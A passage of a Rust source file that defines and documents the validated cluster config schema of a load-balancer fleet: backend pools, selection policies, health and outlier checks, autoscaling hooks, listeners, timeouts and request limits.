//! The cluster config: pools of backends and the listeners that feed them.
//!
//! Two shapes of the same schema live here:
//! - [`RawConfig`] is what an operator writes (TOML or JSON). Enum-like fields are plain strings so that
//!   validation can report *every* problem at once instead of stopping at the first unknown word.
//! - [`ClusterConfig`] is the validated, typed form. It is what the Raft log replicates and what
//!   `get config` returns; it serializes back to the same schema.
//!
//! [`parse`] turns text into a [`ClusterConfig`] or a [`ConfigErrors`] listing each problem with its
//! place, e.g. `pool "web" backend 2: invalid address "10.0.0.1:99999"`.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt;
use std::net::{IpAddr, SocketAddr};
use std::time::Duration;

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

pub mod schema;
pub mod tls;

use self::schema::{HOST_PATTERN, NAME_PATTERN, PATH_PATTERN, TOKEN_PATTERN};
pub use self::tls::{ListenerTls, PoolTls, SniRoute, TlsCertificate, TlsMode};
use self::tls::{RawListenerTls, RawPoolTls, RawSniRoute};

/// Default Maglev table size (a prime, as the Maglev paper recommends M ≫ N).
pub const DEFAULT_TABLE_SIZE: u64 = 65_537;
/// Largest accepted Maglev table size (largest prime below 2^24).
pub const MAX_TABLE_SIZE: u64 = 16_777_213;
/// Smallest accepted Maglev table size.
pub const MIN_TABLE_SIZE: u64 = 101;
/// The table must have at least this many slots per backend.
pub const MIN_SLOTS_PER_BACKEND: u64 = 10;
/// Accepted backend weights.
pub const WEIGHT_RANGE: std::ops::RangeInclusive<u32> = 1..=1000;
/// Ports every lbnode keeps for itself (gRPC, admin HTTP).
pub const RESERVED_PORTS: [(u16, &str); 2] = [(7400, "lbnode gRPC"), (7401, "lbnode admin HTTP")];
/// Points a `ring_hash` pool places per unit of weight (Ketama-style ring).
pub const RING_POINTS_PER_WEIGHT: u64 = 160;
/// Most points one `ring_hash` ring holds; beyond this, point counts are scaled down by weight.
pub const RING_MAX_POINTS: u64 = 1 << 17;

// ---------------------------------------------------------------------------------------------
// Limits of a config document. Every node builds every pool's table from the committed config, so a
// config is bounded as a whole: one apply must not be able to exhaust the memory of every node (and
// crash-loop them from the log). Each limit is checked by `parse` / `RawConfig::validate` and reported
// with the field and the limit. README ("Limits") lists them with their defaults.
// ---------------------------------------------------------------------------------------------

/// Largest config document accepted, in bytes (checked before parsing). The scale goals (1,000 pools
/// of 10 backends, 100 pools of 100) take about 1.2 MB as TOML and 2 MB as JSON as `get config` shows
/// them; the limit stays below the admin gRPC message limit (4 MiB), so that a larger document reaches
/// this check and gets this answer.
pub const MAX_CONFIG_BYTES: usize = 3 << 20;
/// Most pools in one config.
pub const MAX_POOLS: usize = 2_000;
/// Most backends in one pool.
pub const MAX_BACKENDS_PER_POOL: usize = 1_000;
/// Most backends over all pools.
pub const MAX_TOTAL_BACKENDS: usize = 20_000;
/// Most listeners in one config.
pub const MAX_LISTENERS: usize = 1_000;
/// Most routes in one listener.
pub const MAX_ROUTES_PER_LISTENER: usize = 2_000;
/// Most routes over all listeners.
pub const MAX_TOTAL_ROUTES: usize = 10_000;
/// Most table slots over all pools: a `maglev` pool counts its `table_size` (4 bytes a slot), a
/// `ring_hash` pool its ring points (12 bytes a point, at most [`RING_MAX_POINTS`]); other policies
/// build no table. 2^26 slots (256 MiB of Maglev tables) admit 1,000 pools at the default table size.
pub const MAX_TOTAL_TABLE_SLOTS: u64 = 1 << 26;
/// Longest pool, listener and hook name (names use A-Z a-z 0-9 - _ .).
pub const MAX_NAME_LEN: usize = 64;
/// Longest health-check path and route `path_prefix`.
pub const MAX_PATH_LEN: usize = 1_024;
/// Longest route `host` (a DNS name is at most 253 bytes).
pub const MAX_HOST_LEN: usize = 253;
/// Longest header or cookie name (`hash_key = "header:NAME"`, `sticky_cookie`).
pub const MAX_HEADER_NAME_LEN: usize = 128;
/// Longest backend address as written (`[v6]:port` fits in 47).
pub const MAX_ADDR_LEN: usize = 64;
/// Most entries of a listener's `accept_proxy_protocol.from` (trusted PROXY protocol senders).
pub const MAX_PROXY_PROTOCOL_FROM: usize = 256;
/// Health check `interval`: at least 100ms, at most this.
pub const MAX_HEALTH_INTERVAL: Duration = Duration::from_secs(3_600);
/// Smallest health check `interval`.
pub const MIN_HEALTH_INTERVAL: Duration = Duration::from_millis(100);
/// Most consecutive results for `rise` / `fall`, and the largest `quorum`.
pub const MAX_HEALTH_COUNT: u32 = 100;
/// Outlier `base_ejection` and `max_ejection`: at most this (and above zero).
pub const MAX_EJECTION: Duration = Duration::from_secs(86_400);
/// Most consecutive failures an outlier detector counts to (`consecutive_5xx`,
/// `consecutive_connect_failures`; 0 disables).
pub const MAX_OUTLIER_COUNT: u32 = 1_000;
/// Autoscale `window`: at least 1s, at most this.
pub const MAX_SCALE_WINDOW: Duration = Duration::from_secs(3_600);
/// Smallest autoscale `window`.
pub const MIN_SCALE_WINDOW: Duration = Duration::from_secs(1);
/// Largest autoscale watermark (load per active backend).
pub const MAX_WATERMARK: u32 = 1_000_000;
/// Every listener timeout is at least this.
pub const MIN_TIMEOUT: Duration = Duration::from_millis(1);
/// Listener `connect` timeout: at most this.
pub const MAX_CONNECT_TIMEOUT: Duration = Duration::from_secs(300);
/// Listener `request_header` timeout: at most this.
pub const MAX_REQUEST_HEADER_TIMEOUT: Duration = Duration::from_secs(3_600);
/// Listener `idle` timeout: at most this (UDP flows expire after 120s at most anyway).
pub const MAX_IDLE_TIMEOUT: Duration = Duration::from_secs(86_400);
/// Listener `upstream_response` timeout: at most this.
pub const MAX_UPSTREAM_RESPONSE_TIMEOUT: Duration = Duration::from_secs(86_400);
/// The longest any duration of the config may be; the proxies clamp to it as a second line of defence
/// (an `Instant` plus a few centuries overflows).
pub const MAX_ANY_DURATION: Duration = Duration::from_secs(86_400);
/// How many problems a rejection lists (the rest are counted); keeps the answer to a hostile document
/// small.
pub const MAX_LISTED_PROBLEMS: usize = 100;

// HTTP request limits of a listener (`[listener.limits]`, [`HttpLimits`]). The defaults sit among the
// peers': HAProxy refuses a head above its 16 KiB buffer, NGINX allows 4 buffers of 8 KiB
// (`large_client_header_buffers`: a request line or one header line at most 8 KiB, 32 KiB in all),
// Envoy 60 KiB and 100 headers, Apache 100 header lines of at most 8,190 bytes.

/// Default `limits.max_request_head`: request line and headers together, in bytes (NGINX's 4 × 8 KiB).
pub const DEFAULT_MAX_REQUEST_HEAD: u32 = 32 * 1024;
/// `limits.max_request_head`: 1 KiB ..= 1 MiB.
pub const MAX_REQUEST_HEAD_RANGE: std::ops::RangeInclusive<u32> = 1024..=1 << 20;
/// Default `limits.max_headers`: header lines of one request (Envoy's, Apache's and hyper's 100).
pub const DEFAULT_MAX_HEADERS: u32 = 100;
/// `limits.max_headers`: 1 ..= 1,000.
pub const MAX_HEADERS_RANGE: std::ops::RangeInclusive<u32> = 1..=1_000;
/// Default `limits.max_request_line`: method, target and version, in bytes (NGINX's and Apache's 8 KiB).
pub const DEFAULT_MAX_REQUEST_LINE: u32 = 8 * 1024;
/// `limits.max_request_line`: 64 bytes ..= 64 KiB, and at most `max_request_head`.
pub const MAX_REQUEST_LINE_RANGE: std::ops::RangeInclusive<u32> = 64..=64 * 1024;
/// `limits.max_body` (optional; no limit by default, as in HAProxy and Envoy): 1 byte ..= 1 TiB.
pub const MAX_BODY_RANGE: std::ops::RangeInclusive<u64> = 1..=1 << 40;

// ---------------------------------------------------------------------------------------------
// Typed model
// ---------------------------------------------------------------------------------------------

/// A validated cluster config.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, Default)]
pub struct ClusterConfig {
    #[serde(default)]
    pub pool: Vec<Pool>,
    #[serde(default)]
    pub listener: Vec<Listener>,
}

/// A set of interchangeable backends with one selection policy.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Pool {
    pub name: String,
    pub policy: Policy,
    pub hash_key: HashKey,
    pub table_size: u64,
    /// When set, the HTTP proxy pins a client to a backend with a cookie of this name.
    pub sticky_cookie: Option<String>,
    pub health: HealthCheck,
    /// Passive outlier detection from live traffic (node-local ejection).
    pub outlier: OutlierDetection,
    /// Leader-driven activation of standby backends; `None` leaves standbys as configured.
    pub scale: Option<Autoscale>,
    pub backend: Vec<Backend>,
    /// Most connections (TCP) or in-flight requests (HTTP) this node sends to one backend of the pool at
    /// once (the circuit limit; `None`: unlimited). See [`MAX_CONNECTIONS_LIMIT`].
    #[serde(default)]
    pub max_connections_per_backend: Option<u32>,
    /// TLS towards the backends (and their health checks); `None`: plaintext.
    #[serde(default)]
    pub tls: Option<PoolTls>,
}

/// Passive outlier detection, per node, from live traffic (Envoy's defaults).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct OutlierDetection {
    /// Eject after this many 5xx responses in a row (0 disables).
    pub consecutive_5xx: u32,
    /// Eject after this many failed connects in a row (0 disables).
    pub consecutive_connect_failures: u32,
    /// First ejection lasts this long; each repeat adds as much again, up to `max_ejection`.
    #[serde(with = "humantime_serde")]
    pub base_ejection: Duration,
    #[serde(with = "humantime_serde")]
    pub max_ejection: Duration,
    /// Never eject more than this share of a pool's backends (percent).
    pub max_ejection_percent: u32,
}

impl Default for OutlierDetection {
    fn default() -> Self {
        OutlierDetection {
            consecutive_5xx: 5,
            consecutive_connect_failures: 5,
            base_ejection: Duration::from_secs(30),
            max_ejection: Duration::from_secs(300),
            max_ejection_percent: 50,
        }
    }
}

/// Autoscaling of a pool by the leader: standby backends are activated when the average load per
/// active backend stays above `high_watermark` for `window`, and drained when it stays below
/// `low_watermark`. Load is in-flight requests plus open connections, summed over every node.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Autoscale {
    pub min_active: u32,
    pub max_active: u32,
    pub high_watermark: u32,
    pub low_watermark: u32,
    #[serde(with = "humantime_serde")]
    pub window: Duration,
    /// Name of a hook the leader runs after activating a standby. Hooks are defined in each node's
    /// local config (`[hooks.NAME]`, an argv run without a shell, with `LBFLEET_POOL` and
    /// `LBFLEET_BACKEND` set); the replicated config only names them, so applying a config cannot run
    /// arbitrary commands. The hook's exit status goes to the event log.
    ///
    /// (This field takes the place, and the postcard encoding, of the retired `scale_out_cmd`: a command
    /// text stored by an older release reads back as a hook name, and runs nothing unless a node defines
    /// a hook of exactly that name.)
    pub scale_out_hook: Option<String>,
    /// Name of a hook the leader runs after deactivating a standby (takes the place of `scale_in_cmd`).
    pub scale_in_hook: Option<String>,
}

/// One backend server of a pool.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Backend {
    pub addr: SocketAddr,
    pub weight: u32,
    /// Serves only while no primary backend of the pool is healthy (HAProxy's `backup`).
    pub backup: bool,
    /// Kept inactive until the leader's autoscaler activates it.
    pub standby: bool,
}

impl Backend {
    /// The stable key that places this backend on hash rings. Identical on every node.
    pub fn key(&self) -> String {
        self.addr.to_string()
    }
}

/// How a pool picks a backend.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Policy {
    RoundRobin,
    WeightedRoundRobin,
    LeastConn,
    P2c,
    Random,
    SourceHash,
    RingHash,
    Maglev,
}

impl Policy {
    pub const ALL: [Policy; 8] = [
        Policy::RoundRobin,
        Policy::WeightedRoundRobin,
        Policy::LeastConn,
        Policy::P2c,
        Policy::Random,
        Policy::SourceHash,
        Policy::RingHash,
        Policy::Maglev,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            Policy::RoundRobin => "round_robin",
            Policy::WeightedRoundRobin => "weighted_round_robin",
            Policy::LeastConn => "least_conn",
            Policy::P2c => "p2c",
            Policy::Random => "random",
            Policy::SourceHash => "source_hash",
            Policy::RingHash => "ring_hash",
            Policy::Maglev => "maglev",
        }
    }

    /// Hash policies pick the same backend for the same key on every node.
    pub fn is_hash(self) -> bool {
        matches!(self, Policy::SourceHash | Policy::RingHash | Policy::Maglev)
    }
}

impl fmt::Display for Policy {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl std::str::FromStr for Policy {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Policy::ALL.into_iter().find(|p| p.as_str() == s).ok_or_else(|| {
            let names: Vec<_> = Policy::ALL.iter().map(|p| p.as_str()).collect();
            format!("unknown policy \"{s}\" (expected one of {})", names.join(", "))
        })
    }
}

/// What a hash policy hashes.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum HashKey {
    SourceIp,
    SourceAddr,
    Header(String),
    Cookie(String),
    Path,
    Flow,
}

impl HashKey {
    /// Whether the key can only be read from an HTTP request.
    pub fn needs_http(&self) -> bool {
        matches!(self, HashKey::Header(_) | HashKey::Cookie(_) | HashKey::Path)
    }
}

impl fmt::Display for HashKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            HashKey::SourceIp => f.write_str("source_ip"),
            HashKey::SourceAddr => f.write_str("source_addr"),
            HashKey::Header(h) => write!(f, "header:{h}"),
            HashKey::Cookie(c) => write!(f, "cookie:{c}"),
            HashKey::Path => f.write_str("path"),
            HashKey::Flow => f.write_str("flow"),
        }
    }
}

impl std::str::FromStr for HashKey {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let named = |prefix: &str, rest: &str| -> Result<String, String> {
            if is_token(rest) {
                Ok(rest.to_ascii_lowercase())
            } else {
                Err(format!("invalid hash_key \"{s}\": {prefix} name must be a non-empty HTTP token"))
            }
        };
        match s {
            "source_ip" => Ok(HashKey::SourceIp),
            "source_addr" => Ok(HashKey::SourceAddr),
            "path" => Ok(HashKey::Path),
            "flow" => Ok(HashKey::Flow),
            _ => {
                if let Some(rest) = s.strip_prefix("header:") {
                    Ok(HashKey::Header(named("header", rest)?))
                } else if let Some(rest) = s.strip_prefix("cookie:") {
                    // Cookie names are case-sensitive; keep as written.
                    named("cookie", rest)?;
                    Ok(HashKey::Cookie(rest.to_string()))
                } else {
                    Err(format!(
                        "unknown hash_key \"{s}\" (expected source_ip, source_addr, header:NAME, cookie:NAME, path or flow)"
                    ))
                }
            }
        }
    }
}

impl Serialize for HashKey {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.collect_str(self)
    }
}

impl<'de> Deserialize<'de> for HashKey {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        let s = String::deserialize(d)?;
        s.parse().map_err(serde::de::Error::custom)
    }
}

/// Active health check of a pool's backends.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct HealthCheck {
    pub kind: HealthKind,
    pub path: String,
    #[serde(with = "humantime_serde")]
    pub interval: Duration,
    #[serde(with = "humantime_serde")]
    pub timeout: Duration,
    pub rise: u32,
    pub fall: u32,
    /// Accepted HTTP status codes, inclusive.
    pub expect_status: [u16; 2],
    /// Down votes needed to mark a backend down fleet-wide; `None`: a majority of the live voters.
    pub quorum: Option<u32>,
}

impl Default for HealthCheck {
    fn default() -> Self {
        HealthCheck {
            kind: HealthKind::Tcp,
            path: "/health".to_string(),
            interval: Duration::from_secs(1),
            timeout: Duration::from_millis(500),
            rise: 2,
            fall: 2,
            expect_status: [200, 399],
            quorum: None,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum HealthKind {
    Http,
    Tcp,
    None,
}

impl std::str::FromStr for HealthKind {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "http" => Ok(HealthKind::Http),
            "tcp" => Ok(HealthKind::Tcp),
            "none" => Ok(HealthKind::None),
            _ => Err(format!("unknown health kind \"{s}\" (expected http, tcp or none)")),
        }
    }
}

/// A data-plane listener, bound on every node at `<node bind ip>:port`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Listener {
    pub name: String,
    pub protocol: Protocol,
    pub port: u16,
    /// Default pool; HTTP routes may send some requests elsewhere.
    pub pool: String,
    /// HTTP only: answer 307 pointing at the chosen backend instead of proxying.
    pub redirect: bool,
    /// TCP only: send a PROXY protocol header (1 or 2) to backends.
    pub proxy_protocol: Option<u8>,
    /// HTTP and TCP: read a PROXY protocol header (v1 or v2) from trusted fronts first.
    pub accept_proxy_protocol: Option<AcceptProxyProtocol>,
    pub timeouts: Timeouts,
    /// HTTP only: first matching route wins; no match goes to `pool`.
    pub route: Vec<Route>,
    /// HTTP only: what a request may weigh before the proxy refuses it.
    #[serde(default)]
    pub limits: HttpLimits,
    /// Connection caps and the rate limit of the listener (`None`: none of them).
    #[serde(default)]
    pub admission: Option<ListenerLimits>,
    /// HTTP and TCP: terminate TLS (or, TCP only, pass it through); `None`: cleartext.
    #[serde(default)]
    pub tls: Option<ListenerTls>,
    /// TCP passthrough only: the pool chosen by the ClientHello's SNI (first match; none: `pool`).
    #[serde(default)]
    pub sni_route: Vec<SniRoute>,
    /// One access log line per request (HTTP) or connection/flow (TCP, UDP), to each node's
    /// `access_log` destination. Off by default.
    #[serde(default)]
    pub access_log: bool,
}

/// A listener whose connections start with a PROXY protocol header (v1 or v2) from a front (an L4
/// load balancer before the fleet): its client address replaces the socket's peer.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AcceptProxyProtocol {
    /// The sources allowed to send the header (networks; a single address is a /32 or /128). Never
    /// empty: a connection from any other source is refused, since a client that may send the header
    /// can claim any address.
    pub from: Vec<ipnet::IpNet>,
}

impl AcceptProxyProtocol {
    /// Whether a connection from `ip` may send the header (an IPv4-mapped IPv6 address counts as the
    /// IPv4 address it carries).
    pub fn trusts(&self, ip: IpAddr) -> bool {
        let ip = ip.to_canonical();
        self.from.iter().any(|net| net.contains(&ip))
    }
}

/// HTTP routing rule: host (exact, case-insensitive) and/or path prefix.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Route {
    pub host: Option<String>,
    pub path_prefix: Option<String>,
    pub pool: String,
    /// The rate limit of the requests this route takes (on top of the listener's).
    #[serde(default)]
    pub rate_limit: Option<RateLimit>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Protocol {
    Http,
    Tcp,
    Udp,
}

impl Protocol {
    pub fn as_str(self) -> &'static str {
        match self {
            Protocol::Http => "http",
            Protocol::Tcp => "tcp",
            Protocol::Udp => "udp",
        }
    }
    /// Transport the listener binds (HTTP and TCP share the TCP port space).
    pub fn transport(self) -> &'static str {
        match self {
            Protocol::Http | Protocol::Tcp => "tcp",
            Protocol::Udp => "udp",
        }
    }
}

impl std::str::FromStr for Protocol {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "http" => Ok(Protocol::Http),
            "tcp" => Ok(Protocol::Tcp),
            "udp" => Ok(Protocol::Udp),
            _ => Err(format!("unknown protocol \"{s}\" (expected http, tcp or udp)")),
        }
    }
}

/// Data-plane timeouts of a listener.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Timeouts {
    #[serde(with = "humantime_serde")]
    pub connect: Duration,
    /// HTTP: time to receive a request's headers.
    #[serde(with = "humantime_serde")]
    pub request_header: Duration,
    /// Idle time before a client connection (or UDP flow) is closed.
    #[serde(with = "humantime_serde")]
    pub idle: Duration,
    /// HTTP: time for the backend to start answering.
    #[serde(with = "humantime_serde")]
    pub upstream_response: Duration,
}

impl Timeouts {
    /// Each timeout at most its bound ([`MAX_CONNECT_TIMEOUT`], …). Validation refuses larger ones; the
    /// proxies use this as a second line of defence, since an `Instant` plus a huge duration panics.
    pub fn clamped(self) -> Timeouts {
        Timeouts {
            connect: self.connect.min(MAX_CONNECT_TIMEOUT),
            request_header: self.request_header.min(MAX_REQUEST_HEADER_TIMEOUT),
            idle: self.idle.min(MAX_IDLE_TIMEOUT),
            upstream_response: self.upstream_response.min(MAX_UPSTREAM_RESPONSE_TIMEOUT),
        }
    }
}

impl Default for Timeouts {
    fn default() -> Self {
        Timeouts {
            connect: Duration::from_secs(2),
            request_header: Duration::from_secs(10),
            idle: Duration::from_secs(60),
            upstream_response: Duration::from_secs(30),
        }
    }
}

/// Request limits of an HTTP listener (`[listener.limits]`); a request above one is refused (431, 414,
/// 413) and the client connection closed. Bounds: [`MAX_REQUEST_HEAD_RANGE`], [`MAX_HEADERS_RANGE`],
/// [`MAX_REQUEST_LINE_RANGE`], [`MAX_BODY_RANGE`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct HttpLimits {
    /// Request line and headers, in bytes (HTTP/2: the header list size).
    pub max_request_head: u32,
    /// Header lines of one request.
    pub max_headers: u32,
    /// Method, target and version, in bytes.
    pub max_request_line: u32,
    /// Request body in bytes; `None`: no limit. (Not skipped when `None`: postcard needs every field;
    /// TOML leaves a `None` out by itself.)
    #[serde(default)]
    pub max_body: Option<u64>,
}

impl Default for HttpLimits {
    fn default() -> Self {
        HttpLimits {
            max_request_head: DEFAULT_MAX_REQUEST_HEAD,
            max_headers: DEFAULT_MAX_HEADERS,
            max_request_line: DEFAULT_MAX_REQUEST_LINE,
            max_body: None,
        }
    }
}

impl HttpLimits {
    /// Each limit within its bounds. Validation refuses others; the proxy uses this as a second line of
    /// defence (hyper panics on a read buffer below 8 KiB, and a zero limit would refuse everything).
    pub fn clamped(self) -> HttpLimits {
        let clamp = |v: u32, r: &std::ops::RangeInclusive<u32>| v.clamp(*r.start(), *r.end());
        let max_request_head = clamp(self.max_request_head, &MAX_REQUEST_HEAD_RANGE);
        HttpLimits {
            max_request_head,
            max_headers: clamp(self.max_headers, &MAX_HEADERS_RANGE),
            max_request_line: clamp(self.max_request_line, &MAX_REQUEST_LINE_RANGE).min(max_request_head),
            max_body: self.max_body.map(|b| b.clamp(*MAX_BODY_RANGE.start(), *MAX_BODY_RANGE.end())),
        }
    }
}

impl Pool {
    /// Slots of the table this pool's policy builds on every node: `table_size` for `maglev`, the ring
    /// points for `ring_hash` (see [`RING_POINTS_PER_WEIGHT`]), none for the others. Bounded over all
    /// pools by [`MAX_TOTAL_TABLE_SLOTS`].
    pub fn table_slots(&self) -> u64 {
        match self.policy {
            Policy::Maglev => self.table_size,
            Policy::RingHash => {
                let weight: u64 = self.backend.iter().map(|b| u64::from(b.weight)).sum();
                weight.saturating_mul(RING_POINTS_PER_WEIGHT).min(RING_MAX_POINTS)
            }
            _ => 0,
        }
    }
}

impl ClusterConfig {
    pub fn pool(&self, name: &str) -> Option<&Pool> {
        self.pool.iter().find(|p| p.name == name)
    }

    /// TOML text of this config (the same schema operators write).
    pub fn to_toml(&self) -> String {
        toml::to_string_pretty(self).unwrap_or_else(|e| format!("# cannot render config as TOML: {e}\n"))
    }

    pub fn to_json(&self) -> String {
        serde_json::to_string_pretty(self).unwrap_or_else(|e| format!("{{\"error\": \"{e}\"}}"))
    }
}

// ---------------------------------------------------------------------------------------------
// Raw model and validation
// ---------------------------------------------------------------------------------------------

/// The cluster config as written by an operator (TOML, or JSON over the API), before validation:
/// `[[pool]]` tables of backends and `[[listener]]` tables that feed them. The doc comment of each
/// field states its default and the bounds the validator enforces; they are the descriptions of the
/// JSON Schema (`lbctl config schema`, `docs/cluster-config.schema.json`).
#[derive(Debug, Clone, Default, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
#[schemars(title = "lbfleet cluster config")]
pub struct RawConfig {
    /// The pools: sets of interchangeable backends with one selection policy. At most 2000 pools
    /// (`MAX_POOLS`) and 20000 backends over all pools (`MAX_TOTAL_BACKENDS`); names unique.
    #[serde(default)]
    #[schemars(length(max = MAX_POOLS))]
    pub pool: Vec<RawPool>,
    /// The data-plane listeners, bound on every node at `<node bind ip>:port`. At most 1000
    /// (`MAX_LISTENERS`) and 10000 routes over all listeners (`MAX_TOTAL_ROUTES`); names unique, one
    /// listener per transport and port.
    #[serde(default)]
    #[schemars(length(max = MAX_LISTENERS))]
    pub listener: Vec<RawListener>,
}

/// A set of interchangeable backends with one selection policy.
#[derive(Debug, Clone, Default, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct RawPool {
    /// The pool's name, referred to by listeners and routes. Required: 1 to 64 of A-Z a-z 0-9 - _ .
    /// (`MAX_NAME_LEN`).
    #[schemars(length(min = 1, max = MAX_NAME_LEN), pattern(NAME_PATTERN))]
    pub name: Option<String>,
    /// How a backend is picked. Default `round_robin`. Hash policies (`source_hash`, `ring_hash`,
    /// `maglev`) send a key to the same backend on every node; the others decide per node.
    #[serde(default)]
    #[schemars(schema_with = "schema::policy")]
    pub policy: Option<String>,
    /// What a hash policy hashes: `source_ip`, `source_addr`, `header:NAME`, `cookie:NAME` (NAME an
    /// HTTP token of at most 128 bytes; both need an http listener), `path` (http), or `flow` (the UDP
    /// 5-tuple; needs a udp listener). Default `source_ip` for hash policies, else `source_addr`.
    #[serde(default)]
    #[schemars(schema_with = "schema::hash_key")]
    pub hash_key: Option<String>,
    /// Maglev table size (ring_hash: unused). Default 65537; a prime in 101..=16777213, at least 10
    /// slots per backend (`MIN_TABLE_SIZE`, `MAX_TABLE_SIZE`, `MIN_SLOTS_PER_BACKEND`); all pools'
    /// tables together at most 2^26 slots (`MAX_TOTAL_TABLE_SLOTS`).
    #[schemars(range(min = MIN_TABLE_SIZE, max = MAX_TABLE_SIZE))]
    pub table_size: Option<u64>,
    /// HTTP: pin a client to a backend with a cookie of this name, honoured by every node. Default:
    /// none. An HTTP token of at most 128 bytes (`MAX_HEADER_NAME_LEN`).
    #[schemars(length(min = 1, max = MAX_HEADER_NAME_LEN), pattern(TOKEN_PATTERN))]
    pub sticky_cookie: Option<String>,
    /// Active health checks by every node; the fleet-wide verdict is the vote of the live nodes.
    /// Default: `kind = "tcp"` with the defaults of each field.
    pub health: Option<RawHealth>,
    /// Passive ejection from live traffic, by each node on its own. Default: the defaults of each
    /// field.
    pub outlier: Option<RawOutlier>,
    /// Autoscaling of standby backends by the leader. Default: none (standbys stay as configured).
    pub scale: Option<RawScale>,
    /// The backends. At most 1000 per pool (`MAX_BACKENDS_PER_POOL`); addresses unique.
    #[serde(default)]
    #[schemars(length(max = MAX_BACKENDS_PER_POOL))]
    pub backend: Vec<RawBackend>,
    /// Most connections (TCP, UDP flows) or in-flight requests (HTTP) each node sends to one backend
    /// of the pool; a backend at it is skipped. Default: unlimited; 1..=1000000
    /// (`MAX_CONNECTIONS_LIMIT`).
    #[schemars(range(min = 1, max = MAX_CONNECTIONS_LIMIT))]
    pub max_connections_per_backend: Option<i64>,
    /// TLS towards the backends (and their health checks). Default: none (plaintext).
    pub tls: Option<RawPoolTls>,
}

/// `[pool.outlier]`: passive ejection, per node, from live traffic (Envoy's defaults).
#[derive(Debug, Clone, Default, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct RawOutlier {
    /// Eject a backend after this many 5xx responses in a row; 0 disables. Default 5; 0..=1000
    /// (`MAX_OUTLIER_COUNT`).
    #[schemars(range(min = 0, max = MAX_OUTLIER_COUNT))]
    pub consecutive_5xx: Option<i64>,
    /// Eject a backend after this many failed connects in a row; 0 disables. Default 5; 0..=1000
    /// (`MAX_OUTLIER_COUNT`).
    #[schemars(range(min = 0, max = MAX_OUTLIER_COUNT))]
    pub consecutive_connect_failures: Option<i64>,
    /// How long the first ejection lasts; each repeat adds as much again, up to `max_ejection`.
    /// Default "30s"; a duration ("500ms", "30s", "5m") in 1ms..=1day (`MAX_EJECTION`), at most
    /// `max_ejection`.
    #[schemars(length(min = 1))]
    pub base_ejection: Option<String>,
    /// The longest ejection. Default "300s"; a duration in 1ms..=1day (`MAX_EJECTION`).
    #[schemars(length(min = 1))]
    pub max_ejection: Option<String>,
    /// Never eject more than this share of the pool's backends, in percent. Default 50; 0..=100.
    #[schemars(range(min = 0, max = 100))]
    pub max_ejection_percent: Option<i64>,
}

/// `[pool.scale]`: the leader activates standby backends when the load per active backend, summed
/// over every node, stays above `high_watermark` for `window`, and drains them when it stays below
/// `low_watermark`. The pool needs at least one `standby = true` backend.
#[derive(Debug, Clone, Default, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct RawScale {
    /// Fewest active backends. Required; 0..=1000 (`MAX_BACKENDS_PER_POOL`), at most `max_active`.
    #[schemars(range(min = 0, max = MAX_BACKENDS_PER_POOL))]
    pub min_active: Option<i64>,
    /// Most active backends. Required; 0..=1000, at most the pool's primary and standby backends.
    #[schemars(range(min = 0, max = MAX_BACKENDS_PER_POOL))]
    pub max_active: Option<i64>,
    /// In-flight requests plus open connections per active backend above which one more is
    /// activated. Required; 0..=1000000 (`MAX_WATERMARK`), above `low_watermark`.
    #[schemars(range(min = 0, max = MAX_WATERMARK))]
    pub high_watermark: Option<i64>,
    /// Load per active backend below which one is drained. Required; 0..=1000000, below
    /// `high_watermark`.
    #[schemars(range(min = 0, max = MAX_WATERMARK))]
    pub low_watermark: Option<i64>,
    /// How long the load must stay past a watermark. Default "30s"; a duration in 1s..=1h
    /// (`MIN_SCALE_WINDOW`, `MAX_SCALE_WINDOW`).
    #[schemars(length(min = 1))]
    pub window: Option<String>,
    /// A hook (`[hooks.NAME]` of every node's local config) the leader runs after activating a
    /// standby. Default: none. A name of 1 to 64 of A-Z a-z 0-9 - _ . that the node receiving the
    /// config defines.
    #[schemars(length(min = 1, max = MAX_NAME_LEN), pattern(NAME_PATTERN))]
    pub scale_out_hook: Option<String>,
    /// A hook the leader runs after draining a standby. Default: none. A name as for
    /// `scale_out_hook`.
    #[schemars(length(min = 1, max = MAX_NAME_LEN), pattern(NAME_PATTERN))]
    pub scale_in_hook: Option<String>,
